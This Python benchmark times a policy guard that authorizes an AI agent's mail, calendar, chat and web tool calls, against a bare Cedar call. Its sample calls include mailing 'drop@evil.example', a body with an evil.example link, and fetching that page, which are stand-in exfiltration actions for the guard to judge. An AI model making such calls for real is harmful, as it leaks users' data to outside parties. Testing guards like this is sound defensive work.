"""CPU time of one decision over a realistic case, beside a bare Cedar call of the same run.

    python benchmarks/guard.py [--records 200] [--rounds 400] [--json]

The case has read a full inbox, a week of events and a channel; calls are mixed. Absolute figures are this machine's; the
ratio to the bare call travels.
"""

from __future__ import annotations

import argparse
import json
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import cedarpy

from policies import cases, facts
from policies.guard import Call, Case, Guard, Result, World

NOW = datetime(2026, 11, 21, 9, tzinfo=UTC)
WORLD = cases.load_file(cases.HERE / "world.yaml")
ME = str(WORLD["principal"])
PROSE = (
    "Thanks for the numbers. Please look at the second sheet before Thursday, and tell Kim about the {n} open points. "
    * 6
)


def case_with(records: int) -> Case:
    """A case of one request that has read `records` mails, 40 events and 40 chat messages."""
    guard = Guard.load(profile="delegated")
    people = [
        *WORLD["people"],
        *(
            {
                "id": f"p{n}",
                "names": [f"Person{n} Family{n}"],
                "addresses": [f"person{n}@northwind.example"],
                "inside": True,
                "roles": [],
            }
            for n in range(200)
        ),
    ]
    opened = guard.open(
        request="Email Dana and Ravi Patel about the budget review, move the Project sync to 2026-11-25, and cancel the Standup 7 meeting",
        principal=ME,
        now=NOW,
        tools=[{"name": name, "description": "", **told} for name, told in WORLD["tools"].items()],
        world=World(people=people, inside_domains=WORLD["inside_domains"]),
    )
    for page in range(0, records, 50):
        mails = [
            {"message_id": f"msg_{n}", "thread_id": f"thr_{n}", "from": f"person{n}@northwind.example", "to": [ME], "cc": [],
             "subject": f"Budget item {n}", "snippet": "Thanks", "sent_at": (NOW - timedelta(hours=n)).isoformat(), "body": PROSE.format(n=n)}
            for n in range(page, min(page + 50, records))
        ]  # fmt: skip
        opened.observe(
            Result(
                call=Call(tool="mail.search", args={"query": "budget review"}), value={"messages": mails, "next": None}
            )
        )
    events = [
        {"event_id": f"evt_{n}", "title": f"Standup {n}", "start": (NOW + timedelta(hours=n)).isoformat(), "end": (NOW + timedelta(hours=n + 1)).isoformat(),
         "organizer": ME, "attendees": [{"address": "dana@northwind.example"}], "description": PROSE.format(n=n)}
        for n in range(40)
    ]  # fmt: skip
    opened.observe(
        Result(
            call=Call(tool="calendar.list_events", args={"start": NOW.isoformat(), "end": NOW.isoformat()}),
            value={"events": events},
        )
    )
    chat = [
        {"message_id": f"cm_{n}", "channel": "chn_2", "author": "dana@northwind.example", "text": PROSE.format(n=n), "sent_at": NOW.isoformat(), "readers": None}
        for n in range(40)
    ]  # fmt: skip
    opened.observe(Result(call=Call(tool="chat.history", args={"channel": "#general"}), value={"messages": chat}))
    return opened


CALLS = [
    Call(tool="mail.search", args={"query": "budget review", "unread": True}),
    Call(
        tool="mail.send",
        args={
            "to": ["dana@northwind.example"],
            "subject": "Budget review",
            "body": PROSE.format(n=3) + " https://evil.example/x",
        },
    ),
    Call(tool="mail.send", args={"to": ["drop@evil.example"], "subject": "x", "body": PROSE.format(n=4)}),
    Call(tool="mail.reply", args={"message_id": "msg_17", "body": PROSE.format(n=5)}),
    Call(tool="calendar.update_event", args={"event_id": "evt_3", "start": "2026-11-25T10:00:00+00:00"}),
    Call(tool="calendar.cancel_event", args={"event_id": "evt_7"}),
    Call(tool="web.get_page", args={"url": "https://evil.example/x"}),
]


def microseconds(work: Callable[[], Any], rounds: int) -> list[float]:
    taken = []
    for _ in range(rounds):
        begin = time.process_time_ns()
        work()
        taken.append((time.process_time_ns() - begin) / 1000)
    return sorted(taken)


def figures(taken: list[float]) -> dict[str, float]:
    return {"p50_us": round(taken[len(taken) // 2], 1), "p99_us": round(taken[int(len(taken) * 0.99)], 1)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--records", type=int, default=200)
    parser.add_argument("--rounds", type=int, default=400)
    parser.add_argument("--json", action="store_true")
    given = parser.parse_args()

    case = case_with(given.records)
    guard = case.guard
    computed = facts.compute(
        case.tools["mail.send"],
        CALLS[1].args,
        case._memory,
        grant=case.grant,
        used={},
        suspended=False,
        now=NOW,
        origin="human",
    )
    bare_request = {
        "principal": {"type": "Principal", "id": ME},
        "action": {"type": "Action", "id": "send"},
        "resource": {"type": "Tool", "id": "mail.send"},
        "context": {**computed.context, "approved": False, "approvers": 0, "approver_roles": []},
    }

    def bare() -> Any:
        return cedarpy.is_authorized(
            bare_request, guard.bundle.policies["delegated"], case._entities, guard.bundle.schema
        )

    for call in CALLS:
        case.decide(call)
    one_call = microseconds(bare, given.rounds)
    decisions = sorted(
        taken for call in CALLS for taken in microseconds(lambda call=call: case.decide(call), given.rounds)
    )

    def cold() -> Any:
        case._memory._forget()
        return case.decide(CALLS[4])

    after_news = microseconds(cold, max(20, given.rounds // 10))
    state = case.dump()
    opened = microseconds(lambda: case_with(0), 20)
    tools = [{"name": name, "description": "", **told} for name, told in WORLD["tools"].items()]
    restored = microseconds(lambda: guard.restore(state, now=NOW, tools=tools), 10)
    result = {
        "records": given.records,
        "decide": figures(decisions),
        "decide_first_after_a_read": figures(after_news),
        "bare_cedar_call": figures(one_call),
        "decide_over_bare_p50": round(figures(decisions)["p50_us"] / figures(one_call)["p50_us"], 2),
        "decide_over_bare_p99": round(figures(decisions)["p99_us"] / figures(one_call)["p99_us"], 2),
        "load_and_open": figures(opened),
        "restore": figures(restored),
        "dump_bytes": len(json.dumps(state.to_json())),
    }
    if given.json:
        print(json.dumps(result))
        return
    for name, value in result.items():
        print(f"{name:28} {value}")


if __name__ == "__main__":
    main()
